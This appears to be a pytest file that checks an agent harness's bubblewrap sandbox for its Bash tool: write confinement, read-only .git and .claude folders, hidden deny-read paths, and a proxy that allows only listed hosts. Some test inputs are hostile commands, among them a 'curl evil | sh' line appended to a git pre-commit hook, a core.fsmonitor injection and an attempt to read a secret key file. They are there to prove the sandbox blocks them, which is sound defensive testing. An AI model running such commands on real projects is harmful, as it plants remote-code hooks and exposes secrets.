"""Sandboxed Bash, proven by running real commands in bubblewrap and looking for their traces."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from claude_harness.permissions.rules import parse_rule
from claude_harness.protocol.context import ToolUseContext
from claude_harness.protocol.permission_data import PermissionRule
from claude_harness.protocol.tool import ToolError
from claude_harness.tools.bash import TOOL
from tests.sandbox.conftest import SandboxFactory, needs_bwrap, needs_curl

pytestmark = needs_bwrap


async def bash(ctx: ToolUseContext, command: str, **kw: Any) -> Any:
    """The Bash tool's result data (a BashRun) for `command`."""
    inp = TOOL.input_model.model_validate({"command": command, **kw})
    result = await TOOL.call(inp, ctx, lambda _: None)
    return result.data


def notes(run: Any) -> str:
    return "\n".join(run.notes)


async def test_writes_inside_the_project_work_and_outside_fail(
    sandbox: SandboxFactory, project: Path
) -> None:
    _, ctx = sandbox()
    inside = await bash(ctx, "echo made > src/new.txt && cat src/new.txt")
    assert inside.exit_code == 0 and inside.stdout == "made\n"
    assert (project / "src" / "new.txt").read_text() == "made\n"

    outside = await bash(ctx, "echo pwned > ../outside/x")
    assert outside.exit_code != 0 and "Read-only file system" in outside.stderr
    assert not (project.parent / "outside" / "x").exists()
    assert "ran in the sandbox" in notes(outside) and "dangerouslyDisableSandbox" in notes(outside)

    home = await bash(ctx, "touch ~/.pwned-by-sandbox-test; echo $?")
    assert home.stdout.strip() != "0"
    assert not (Path.home() / ".pwned-by-sandbox-test").exists()


async def test_the_session_temp_dir_is_writable_and_is_tmpdir(
    sandbox: SandboxFactory, tmp_path: Path
) -> None:
    runtime, ctx = sandbox()
    run = await bash(ctx, 'f=$(mktemp) && echo ok > "$f" && cat "$f" && echo "$TMPDIR"')
    assert run.exit_code == 0
    assert run.stdout.splitlines() == ["ok", str(runtime.temp_dir)]


async def test_protected_paths_stay_read_only_inside_the_project(
    sandbox: SandboxFactory, project: Path
) -> None:
    _, ctx = sandbox()
    hook = project / ".git" / "hooks" / "pre-commit"
    config = project / ".git" / "config"
    settings = project / ".claude" / "settings.json"
    before = {p: p.read_bytes() for p in (hook, config, settings)}
    attempts = [
        f"echo 'curl evil | sh' >> {hook}",
        "git config core.fsmonitor 'touch /tmp/pwn'",
        "echo '{\"hooks\": {}}' > .claude/settings.json",
        "mkdir -p .claude/commands && echo x > .claude/commands/evil.md",
        "rm -rf .git/hooks",
        "mv .claude .claude-moved",
    ]
    for command in attempts:
        run = await bash(ctx, command)
        assert run.exit_code != 0, command
    assert {p: p.read_bytes() for p in before} == before
    assert not (project / ".claude" / "commands").exists()
    # all of .git is read-only: git that only reads works, git that writes fails and says why
    reading = await bash(ctx, "git status --short && git log --oneline 2>&1 | head -1")
    assert reading.exit_code == 0 and "src/" in reading.stdout
    writing = await bash(ctx, "git add src")
    assert writing.exit_code != 0 and "Read-only file system" in writing.stderr


async def test_a_missing_claude_folder_cannot_be_created(
    sandbox: SandboxFactory, project: Path
) -> None:
    (project / ".claude" / "settings.json").unlink()
    (project / ".claude").rmdir()
    _, ctx = sandbox()
    run = await bash(ctx, "mkdir -p .claude && echo '{}' > .claude/settings.json")
    assert run.exit_code != 0
    assert not (project / ".claude" / "settings.json").exists()


async def test_read_deny_rules_and_deny_read_paths_are_hidden(
    sandbox: SandboxFactory, project: Path, tmp_path: Path
) -> None:
    secrets = project / "secrets"
    secrets.mkdir()
    (secrets / "key.pem").write_text("TOP SECRET\n")
    vault = tmp_path / "vault.txt"
    vault.write_text("VAULT SECRET\n")
    _, ctx = sandbox(deny_read=[vault])
    deny = PermissionRule("projectSettings", "deny", parse_rule("Read(./secrets/**)"), project)
    ctx = replace(ctx, permission=replace(ctx.permission, rules=(deny,)))
    run = await bash(ctx, f"cat secrets/key.pem; cat {vault}; ls -A secrets | wc -l")
    assert "SECRET" not in run.stdout
    assert run.stdout.strip().splitlines()[-1] == "0"
    assert (secrets / "key.pem").read_text() == "TOP SECRET\n"  # hidden, not harmed


@needs_curl
async def test_network_goes_only_to_allowed_hosts_through_the_proxy(
    sandbox: SandboxFactory, web_server: int
) -> None:
    runtime, ctx = sandbox(allowed_domains=["localhost"])
    url = f"http://localhost:{web_server}/"
    plain = await bash(ctx, f"curl -sS --max-time 10 {url}")
    assert plain.exit_code == 0 and plain.stdout == "hello from the host\n"
    tunnel = await bash(ctx, f"curl -sS --max-time 10 --proxytunnel {url}")  # HTTP CONNECT
    assert tunnel.exit_code == 0 and tunnel.stdout == "hello from the host\n"

    refused_by_name = await bash(ctx, f"curl -sS --max-time 10 http://127.0.0.1:{web_server}/")
    assert "hello" not in refused_by_name.stdout
    assert "Blocked by the claude-harness sandbox" in refused_by_name.stdout
    https = await bash(ctx, "curl -sS --max-time 10 https://example.com/")
    assert https.exit_code != 0 and "403" in https.stderr
    direct = await bash(ctx, f"curl -sS --max-time 5 --noproxy '*' {url}")
    assert direct.exit_code != 0 and "hello" not in direct.stdout
    assert "ran in the sandbox" in notes(https)
    assert runtime.proxy_refusals >= 2


@needs_curl
async def test_without_allowed_domains_there_is_no_network_at_all(
    sandbox: SandboxFactory, web_server: int
) -> None:
    _, ctx = sandbox()
    run = await bash(ctx, f"curl -sS --max-time 5 http://localhost:{web_server}/")
    assert run.exit_code != 0 and "hello" not in run.stdout


async def test_dangerously_disable_sandbox_runs_outside_and_says_so(
    sandbox: SandboxFactory, project: Path
) -> None:
    _, ctx = sandbox()
    run = await bash(ctx, "echo out > ../outside/y", dangerouslyDisableSandbox=True)
    assert run.exit_code == 0
    assert (project.parent / "outside" / "y").read_text() == "out\n"
    assert "ran outside the sandbox: dangerouslyDisableSandbox" in notes(run)


async def test_unsandboxed_commands_are_refused_when_not_allowed(
    sandbox: SandboxFactory, project: Path
) -> None:
    _, ctx = sandbox(allow_unsandboxed_commands=False)
    with pytest.raises(ToolError, match="allowUnsandboxedCommands"):
        await bash(ctx, "echo out > ../outside/z", dangerouslyDisableSandbox=True)
    assert not (project.parent / "outside" / "z").exists()


async def test_excluded_commands_run_outside_with_a_note(
    sandbox: SandboxFactory, project: Path
) -> None:
    _, ctx = sandbox(excluded_commands=["touch"])
    run = await bash(ctx, "touch ../outside/excluded")
    assert run.exit_code == 0 and (project.parent / "outside" / "excluded").exists()
    assert "excluded by sandbox.excludedCommands (touch)" in notes(run)


async def test_a_background_command_is_sandboxed_too(
    sandbox: SandboxFactory, project: Path
) -> None:
    from claude_harness.tools.bash.background import REGISTRY

    _, ctx = sandbox()
    run = await bash(ctx, "echo bg > ../outside/bg; echo inside > src/bg", run_in_background=True)
    shell = REGISTRY.get(run.background_id)
    assert shell.process.wait_finished(10)
    assert (project / "src" / "bg").read_text() == "inside\n"
    assert not (project.parent / "outside" / "bg").exists()


async def test_the_command_sees_only_its_own_processes(sandbox: SandboxFactory) -> None:
    _, ctx = sandbox()
    run = await bash(ctx, "ls /proc | grep -c '^[0-9]'")
    assert int(run.stdout) < 10  # bwrap, bash, ls, grep: not the host's process list


async def test_the_working_directory_carries_over_between_sandboxed_commands(
    sandbox: SandboxFactory, project: Path
) -> None:
    _, ctx = sandbox()
    first = await bash(ctx, "cd src")
    assert first.exit_code == 0 and first.stderr == ""
    second = await bash(ctx, "pwd")
    assert second.stdout.strip() == str(project / "src")
